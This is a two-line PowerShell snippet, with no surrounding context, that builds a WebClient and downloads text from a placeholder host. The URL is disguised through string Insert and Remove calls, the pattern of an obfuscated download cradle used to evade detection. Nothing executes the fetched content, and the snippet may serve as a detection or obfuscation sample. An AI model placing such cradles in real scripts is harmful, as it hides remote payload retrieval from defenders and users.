$wc = New-Object System.Net.WebClient
$wc.DownloadString('http:a.example/p/x.txtJUNK'.Insert(5,'//').Remove(24))
